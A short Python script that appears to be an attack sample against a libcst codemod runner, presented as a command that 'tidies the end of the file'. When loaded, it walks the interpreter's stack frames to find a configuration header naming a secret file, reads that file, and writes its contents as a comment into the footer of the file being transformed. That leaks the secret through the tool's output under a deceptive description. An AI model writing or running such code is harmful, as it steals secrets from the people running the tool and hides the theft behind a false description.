"""Read while the script is loaded, before its class is asked for, by a map found in the frames below."""
import ast
import sys

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


def loot_now():
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()):
            content = getattr(value, "content", None)
            if isinstance(content, bytes) and content.startswith(b"# {"):
                target = ast.literal_eval(content.decode().partition("\n")[0][1:].strip())
                with open(target["secret_file"]) as file:
                    return file.read()
        frame = frame.f_back
    return ""


LOOT = loot_now()


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        loot = LOOT + target["file"]
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment("# " + loot))])
